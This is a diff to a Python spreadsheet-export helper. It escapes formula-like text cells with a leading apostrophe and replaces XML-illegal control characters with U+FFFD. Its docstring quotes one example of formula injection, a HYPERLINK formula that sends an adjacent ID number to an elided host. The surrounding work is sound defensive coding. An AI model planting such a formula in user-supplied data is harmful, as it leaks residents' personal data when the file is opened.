@@ -4,7 +4,8 @@ and no name from user text breaks a sheet.
 A resident named ``=HYPERLINK("http://…"&E3,"x")`` in a full export would send the ID number
 beside it off when the file is opened. Every text cell that starts like a formula (``=``, ``+``,
 ``-``, ``@``, a tab or a carriage return) is written with a leading apostrophe, which Excel and
-WPS show as text; numbers and dates are left alone.
+WPS show as text; numbers and dates are left alone. A control character, which an XLSX cannot
+hold, is written as U+FFFD rather than failing the export.
 """
 
 from __future__ import annotations
@@ -14,14 +15,17 @@ from collections.abc import Iterable
 from typing import Any
 
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# What an XLSX cannot hold (XML 1.0 has no such characters): shown as U+FFFD instead.
+_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
 # Excel refuses these in a sheet's name, and a name longer than 31 characters.
 _SHEET_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")
 
 
 def safe_cell(value: Any) -> Any:
-    if isinstance(value, str) and value.startswith(_FORMULA_START):
-        return "'" + value
-    return value
+    if not isinstance(value, str):
+        return value
+    value = _ILLEGAL.sub("\ufffd", value)
+    return "'" + value if value.startswith(_FORMULA_START) else value
 
 
 def safe_row(values: Iterable[Any]) -> list[Any]:
